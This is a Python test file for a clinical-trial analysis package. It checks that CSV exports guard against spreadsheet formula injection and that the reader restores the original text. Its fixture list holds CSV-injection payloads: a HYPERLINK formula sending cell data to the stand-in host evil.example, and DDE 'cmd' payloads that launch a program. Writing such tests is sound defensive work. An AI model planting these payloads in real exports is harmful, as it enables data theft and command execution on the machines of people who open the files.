"""Formula-safe CSV cells (issue 14, finding 4): text that could start a spreadsheet formula is written with a
leading ``'`` in every CSV writer, numbers stay numbers, and the analysis-data reader gives the text back."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
from pathlib import Path

import pytest

from mescams.core.analysis_contract import EXPORT_COLUMNS
from mescams.core.spreadsheet import FORMULA_TRIGGERS, cell, csv_text, neutralise, restore
from mescams.interop.analysis_folder import analysis_tables
from mescams.protocols import default_protocol
from mescams.sim.demo_snapshot import simulated_snapshot
from mescams.stats.analysis_data import read_analysis_data
from mescams.stats.analysis_folder import write_analysis_folder

# One planted term per OWASP form: =, +, -, @, tab, carriage return (and a quote, so the guard is reversible).
PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]


def spreadsheet_would_run(text: str) -> bool:
    """What a spreadsheet does with a cell: a leading trigger starts a formula, unless the cell is a number."""
    try:
        float(text)
    except ValueError:
        return text.startswith(FORMULA_TRIGGERS)
    return False


@pytest.mark.parametrize("text", PLANTED)
def test_each_form_is_guarded_and_restored(text: str) -> None:
    safe = neutralise(text)
    assert safe.startswith("'") and not spreadsheet_would_run(safe)
    assert restore(safe) == text


@pytest.mark.parametrize("value", [-1.5, -3, 2.0, "-1.5", "+3", "1e-5", True, dt.date(2016, 1, 4), None])
def test_numbers_dates_and_booleans_are_not_touched(value: object) -> None:
    assert not cell(value).startswith("'")


def test_plain_text_is_unchanged_and_quotes_are_escaped_by_the_csv_rules() -> None:
    assert neutralise("headache") == "headache"
    text = csv_text(["term"], [['say "hi", =1']])
    assert text == 'term\n"say ""hi"", =1"\n'
    assert next(csv.reader(text.splitlines()[1:])) == ['say "hi", =1']


def _cells(folder: Path) -> list[str]:
    out = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            out += [c for row in csv.reader(fh) for c in row]
    return out


def test_analysis_folder_guards_planted_ae_terms_and_the_reader_reads_them_back(tmp_path: Path) -> None:
    protocol = default_protocol()
    snapshot = simulated_snapshot(protocol, seed=2015)
    randomised = {p.participant_id for p in snapshot.randomised}
    events = list(snapshot.adverse_events)
    slots = [i for i, e in enumerate(events) if e.participant_id in randomised][: len(PLANTED)]
    assert len(slots) == len(PLANTED)
    for i, text in zip(slots, PLANTED, strict=True):
        events[i] = dataclasses.replace(events[i], term=text)
    folder = tmp_path / "analysis_data"
    planted = dataclasses.replace(snapshot, adverse_events=tuple(events))
    write_analysis_folder(analysis_tables(protocol, planted), folder, columns=EXPORT_COLUMNS)
    cells = _cells(folder)
    assert [c for c in cells if spreadsheet_would_run(c)] == []
    assert not [c for c in cells if c.startswith("'") and c not in {neutralise(t) for t in PLANTED}]
    data = read_analysis_data(folder, protocol)
    assert set(PLANTED) <= set(data.adverse_events["term"])  # the reader removes the guard: the term as entered


def test_power_table_csv_guards_text(tmp_path: Path) -> None:
    from mescams.sim.power import CellSummary
    from mescams.sim.power_report import write_csv

    row = CellSummary(31, 0.6, 1.0, 0.0, "=1+1", 10, 0, 0.8, 0.01, -0.02, 0.95, 0.61)
    write_csv([row], tmp_path / "power.csv")
    cells = _cells(tmp_path)
    assert "'=1+1" in cells and "-0.02" in cells  # text guarded, a negative number left a number
    assert [c for c in cells if spreadsheet_would_run(c)] == []
